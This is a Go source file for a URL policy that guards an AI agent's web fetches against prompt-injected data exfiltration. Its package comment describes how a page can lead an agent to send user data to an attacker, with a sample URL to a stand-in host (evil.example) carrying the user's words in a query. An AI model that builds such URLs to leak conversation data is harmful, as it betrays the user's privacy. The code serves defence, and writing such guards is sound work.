// Package urlpolicy decides where the address of a fetch may come from. An agent
// that reads pages of strangers can be talked into sending what it knows to one of
// them, in an address that it makes up: https://evil.example/?q=what-the-user-said.
//
// [Seen] allows addresses that were there before the agent could make them up: in
// the words of the user, or in what it has read. [Secrets] refuses addresses that
// hold what looks like a key or a token. Both are values for
// webfetch.Options.Hooks.URLPolicy, which is asked before anything is sent, and again for
// every redirect.
//
// # What this does not do
//
// A page that was read can hold many addresses, and which of them an agent goes on to
// can give away a little. Secrets knows the forms of common keys, not the words of a
// secret; data that looks like nothing passes. Neither replaces the egress policy.
package urlpolicy

import (
	"context"
	"net/url"
)

// Error is why an address is refused.
type Error struct {
	// Reason is a sentence: that the address is neither of the user nor of an earlier result, that
	// it holds what looks like a secret, that it is longer than 8 KiB, or that the policy refuses it.
	Reason string
}

const (
	notSeen    = "the address is neither of the user nor of an earlier result"
	hasSecret  = "the address holds what looks like a secret"
	tooLong    = "the address is longer than 8 KiB"
	notAllowed = "the policy for addresses refuses it"
)

// Error is the reason.
func (e *Error) Error() string { return e.Reason }

// Hint says what to do instead.
func (e *Error) Hint() string {
	switch e.Reason {
	case notSeen:
		return "Use an address that the user gave or that an earlier result shows, as it stands there, or ask the user."
	case hasSecret:
		return "Leave keys and tokens out of addresses."
	}
	return "Use another address."
}

type (
	redirectKey struct{}
	sessionKey  struct{}
)

// WithRedirect returns the context that a policy is asked under about an address
// that another one has led to: by a redirect, or in a browser by a script.
func WithRedirect(ctx context.Context, from *url.URL) context.Context {
	return context.WithValue(ctx, redirectKey{}, from)
}

// RedirectFrom returns the address that has led to the one in question, nil if the
// caller of the fetch has named that.
func RedirectFrom(ctx context.Context) *url.URL {
	from, _ := ctx.Value(redirectKey{}).(*url.URL)
	return from
}

// WithSession returns a context for one of several conversations that share a [Seen].
// Addresses seen in one conversation do not count in another.
func WithSession(ctx context.Context, name string) context.Context {
	return context.WithValue(ctx, sessionKey{}, name)
}

func session(ctx context.Context) string {
	name, _ := ctx.Value(sessionKey{}).(string)
	return name
}
